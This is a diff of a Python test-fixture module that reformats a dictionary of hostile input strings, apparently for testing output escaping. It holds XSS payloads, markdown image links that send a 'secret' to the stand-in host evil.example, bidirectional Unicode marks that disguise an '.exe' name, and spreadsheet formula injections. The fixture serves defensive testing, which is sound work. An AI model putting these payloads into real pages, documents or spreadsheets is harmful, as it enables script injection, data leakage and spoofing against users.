@@ -1,9 +1,18 @@
-"""Words of people who try to break out of where they are shown."""
+"""Texts that try to break out of where they are shown."""
 
 WORDS = {
-    "html": "<script>alert(1)</script><img src=x onerror=alert(1)><b onmouseover=alert(1)>x</b></p></div>",
-    "markdown images": "![x](https://evil.example/?q=secret) ![a][b] <https://evil.example/i.png>\n\n[b]: https://evil.example/b.png",
-    "script links": "[click](javascript:alert(1)) <a href='javascript:alert(1)'>x</a> [x](data:text/html,<script>a()</script>)",
+    "html": (
+        "<script>alert(1)</script><img src=x onerror=alert(1)><b "
+        "onmouseover=alert(1)>x</b></p></div>"
+    ),
+    "markdown images": (
+        "![x](https://evil.example/?q=secret) ![a][b] <https://evil.example/i.png>\n\n[b]: "
+        "https://evil.example/b.png"
+    ),
+    "script links": (
+        "[click](javascript:alert(1)) <a href='javascript:alert(1)'>x</a> "
+        "[x](data:text/html,<script>a()</script>)"
+    ),
     "marks": "\u202egnp.exe\u202c \u2066left open \u061c\u200e\u200f\u2069 \u2028\u2029",
     "formula": '=HYPERLINK("https://evil.example";"a")',
     "other formulas": '+1\n@SUM(A1)\r\n-2\t"quoted",;\'',
